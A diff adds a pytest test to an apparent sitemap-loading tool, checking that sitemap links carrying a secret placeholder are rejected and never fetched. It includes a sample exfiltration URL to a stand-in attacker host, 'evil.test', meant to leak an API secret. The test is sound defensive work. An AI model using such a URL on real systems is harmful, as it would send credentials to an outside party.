@@ -213,3 +213,17 @@ def test_the_same_routes_by_any_way_in_give_the_same_plan() -> None:  # known fa
     plans = [make_plan(request_of(way, settings=settings)) for way in ways]
     assert [row.url for row in plans[0].routes] in ([f"{E}/b", f"{E}/c"], [f"{E}/c", f"{E}/b"])
     assert {plan.header.plan_id for plan in plans} == {plans[0].header.plan_id}
+
+
+def test_a_sitemap_names_no_secret() -> None:
+    """It is written by the site, and would have our secrets sent wherever it likes."""
+    stolen = "https://evil.test/?q={{secret:API}}"
+    with pytest.raises(ContractError, match="names a secret"):
+        load(Web({ROOT: pages(f"{E}/a", stolen)}))
+    bait = E + "/more.xml?q={{secret:API}}"
+    web = Web({ROOT: index(f"{E}/s1.xml", f"{E}/s2.xml", bait), f"{E}/s1.xml": pages(f"{E}/a"), f"{E}/s2.xml":
+               pages(stolen), bait: pages(f"{E}/b")})
+    manifest = load(web)
+    assert urls(manifest) == [f"{E}/a"]
+    assert ["names a secret" in failure.reason for failure in manifest.failures] == [True, True]
+    assert bait not in web.asked
